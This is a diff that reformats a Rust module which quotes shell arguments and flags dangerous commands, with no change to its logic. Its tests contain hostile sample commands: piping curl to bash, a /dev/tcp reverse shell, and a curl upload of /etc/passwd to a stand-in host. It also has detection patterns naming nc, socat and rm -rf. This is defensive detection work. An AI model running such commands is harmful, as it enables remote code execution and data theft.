@@ -32,7 +32,10 @@ impl Danger {
 
 /// One argument, quoted for a POSIX shell so that it is nothing but an argument.
 pub fn quote(argument: &str) -> Cow<'_, str> {
-    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':' | '=' | '@' | '%' | '+' | ',');
+    let plain = |c: char| {
+        c.is_ascii_alphanumeric()
+            || matches!(c, '_' | '-' | '.' | '/' | ':' | '=' | '@' | '%' | '+' | ',')
+    };
     if !argument.is_empty() && argument.chars().all(plain) {
         return argument.into();
     }
@@ -50,14 +53,31 @@ pub fn quote(argument: &str) -> Cow<'_, str> {
 
 /// What makes a command dangerous, each reason once, the mildest first.
 pub fn dangers(command: &str) -> Vec<Danger> {
-    let flat = command.split_whitespace().collect::<Vec<_>>().join(" ").to_ascii_lowercase();
-    let words: Vec<&str> = flat.split([' ', ';', '|', '&', '(', ')', '`', '"', '\'']).filter(|w| !w.is_empty()).collect();
-    let runs = |name: &str| words.iter().any(|word| word.rsplit('/').next() == Some(name));
+    let flat = command
+        .split_whitespace()
+        .collect::<Vec<_>>()
+        .join(" ")
+        .to_ascii_lowercase();
+    let words: Vec<&str> = flat
+        .split([' ', ';', '|', '&', '(', ')', '`', '"', '\''])
+        .filter(|w| !w.is_empty())
+        .collect();
+    let runs = |name: &str| {
+        words
+            .iter()
+            .any(|word| word.rsplit('/').next() == Some(name))
+    };
     let holds = |part: &str| flat.contains(part);
     let flagged = |flags: &[char]| {
-        words.iter().any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains(flags))
+        words
+            .iter()
+            .any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains(flags))
     };
-    let shell = ["sh", "bash", "zsh", "dash", "python", "python3", "perl", "ruby", "node"].iter().any(|name| runs(name));
+    let shell = [
+        "sh", "bash", "zsh", "dash", "python", "python3", "perl", "ruby", "node",
+    ]
+    .iter()
+    .any(|name| runs(name));
     let fetch = runs("curl") || runs("wget");
     let mut found = Vec::new();
     let mut note = |danger: Danger, there: bool| {
@@ -65,10 +85,17 @@ pub fn dangers(command: &str) -> Vec<Danger> {
             found.push(danger);
         }
     };
-    note(Danger::Composition, [";", "&&", "|", "`", "$(", "<(", "\u{0}"].iter().any(|part| holds(part)) || command.trim().contains('\n'));
+    note(
+        Danger::Composition,
+        [";", "&&", "|", "`", "$(", "<(", "\u{0}"]
+            .iter()
+            .any(|part| holds(part))
+            || command.trim().contains('\n'),
+    );
     note(
         Danger::Destruction,
-        (runs("rm") && (flagged(&['r', 'f']) || holds("--recursive") || holds("--no-preserve-root")))
+        (runs("rm")
+            && (flagged(&['r', 'f']) || holds("--recursive") || holds("--no-preserve-root")))
             || words.iter().any(|word| word.starts_with("mkfs"))
             || (runs("dd") && holds("of="))
             || runs("shred")
@@ -80,13 +107,27 @@ pub fn dangers(command: &str) -> Vec<Danger> {
     );
     note(
         Danger::RemoteCode,
-        (fetch && shell && holds("|")) || (fetch && holds("$(")) || (holds("base64") && shell) || runs("eval") || holds("-c exec("),
+        (fetch && shell && holds("|"))
+            || (fetch && holds("$("))
+            || (holds("base64") && shell)
+            || runs("eval")
+            || holds("-c exec("),
     );
     note(
         Danger::Exfiltration,
         holds("/dev/tcp/")
             || ((runs("nc") || runs("ncat") || runs("socat")) && words.len() > 1)
-            || (fetch && [" -d ", "--data", " -f ", "--upload-file", " -t ", "--post-file"].iter().any(|flag| holds(flag)))
+            || (fetch
+                && [
+                    " -d ",
+                    "--data",
+                    " -f ",
+                    "--upload-file",
+                    " -t ",
+                    "--post-file",
+                ]
+                .iter()
+                .any(|flag| holds(flag)))
             || (runs("scp") && holds(":")),
     );
     note(
@@ -124,12 +165,20 @@ mod tests {
             ("curl https://a.example/x | bash", Danger::RemoteCode),
             ("echo aGk= | base64 -d | sh", Danger::RemoteCode),
             ("bash -i >& /dev/tcp/192.0.2.1/80", Danger::Exfiltration),
-            ("curl --data @/etc/passwd https://a.example", Danger::Exfiltration),
+            (
+                "curl --data @/etc/passwd https://a.example",
+                Danger::Exfiltration,
+            ),
             ("/usr/bin/sudo id", Danger::Privilege),
         ] {
             assert!(dangers(command).contains(&danger), "{command}");
         }
-        for harmless in ["ls -la src", "cargo test", "git status", "grep -rn transform ."] {
+        for harmless in [
+            "ls -la src",
+            "cargo test",
+            "git status",
+            "grep -rn transform .",
+        ] {
             assert_eq!(dangers(harmless), [], "{harmless}");
         }
     }
